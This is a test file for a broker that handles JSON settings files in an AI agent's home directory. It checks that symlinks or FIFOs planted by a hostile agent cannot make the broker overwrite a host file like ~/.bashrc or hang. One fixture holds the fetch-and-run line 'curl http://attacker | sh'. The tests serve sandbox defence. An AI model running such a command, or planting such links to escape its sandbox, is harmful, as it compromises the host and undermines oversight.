import {execFileSync} from 'node:child_process'
import {mkdirSync, mkdtempSync, readFileSync, readdirSync, rmSync, symlinkSync, writeFileSync} from 'node:fs'
import {tmpdir} from 'node:os'
import {join} from 'node:path'
import {afterEach, beforeEach, describe, expect, it} from 'vitest'
import {readJsonObject, writeJsonFile} from './json-file.js'

/**
 * The broker reads and rewrites a harness's JSON files in the agent's HOME on the host at every
 * start; the agent wrote that HOME. Nothing planted there may make the broker write a host file
 * (with the agent's text: `~/.bashrc`) or hang on a read.
 */
describe("harness JSON files in a hostile agent's HOME", () => {
  let root: string
  let dir: string
  let victim: string
  beforeEach(() => {
    root = mkdtempSync(join(tmpdir(), 'svc-json-hostile-'))
    dir = join(root, 'homes', 'a1', '.claude')
    mkdirSync(dir, {recursive: true})
    victim = join(root, 'host-bashrc')
    writeFileSync(victim, 'host file\n')
  })
  afterEach(() => rmSync(root, {recursive: true, force: true}))

  it('an unreadable file is kept beside it, never through a link planted at the copy\'s name', async () => {
    const settings = join(dir, 'settings.json')
    writeFileSync(settings, 'curl http://attacker | sh\n')
    symlinkSync(victim, `${settings}.svc-unreadable`)
    expect(await readJsonObject(settings)).toEqual({})
    expect(readFileSync(victim, 'utf8')).toBe('host file\n')
    expect(readFileSync(`${settings}.svc-unreadable`, 'utf8')).toBe('curl http://attacker | sh\n')
  })

  it('a FIFO in place of the file is read as {} (the broker does not wait on it)', async () => {
    const settings = join(dir, 'settings.json')
    execFileSync('mkfifo', [settings])
    expect(await readJsonObject(settings)).toEqual({})
  })

  it('writing never goes through a link planted at the old temporary name', async () => {
    const settings = join(dir, 'settings.json')
    symlinkSync(victim, `${settings}.svc-${process.pid}.tmp`)
    await writeJsonFile(settings, {hooks: {}})
    expect(readFileSync(victim, 'utf8')).toBe('host file\n')
    expect(JSON.parse(readFileSync(settings, 'utf8'))).toEqual({hooks: {}})
    expect(readdirSync(dir).filter((n) => n.endsWith('.tmp') && !n.includes(`${process.pid}.tmp`))).toEqual([])
  })
})

describe('home files written by the broker', () => {
  it('a FIFO planted at a token file fails the write at once instead of blocking the broker', async () => {
    const {writeHomeFile} = await import('./json-file.js')
    const root = mkdtempSync(join(tmpdir(), 'svc-json-hostile-'))
    try {
      const file = join(root, 'homes', 'a1', '.svc', 'agent-token')
      mkdirSync(join(root, 'homes', 'a1', '.svc'), {recursive: true})
      execFileSync('mkfifo', [file])
      await expect(writeHomeFile(file, 'svc_agent_x\n')).rejects.toThrow(/ENXIO/)
    } finally {
      rmSync(root, {recursive: true, force: true})
    }
  })
})
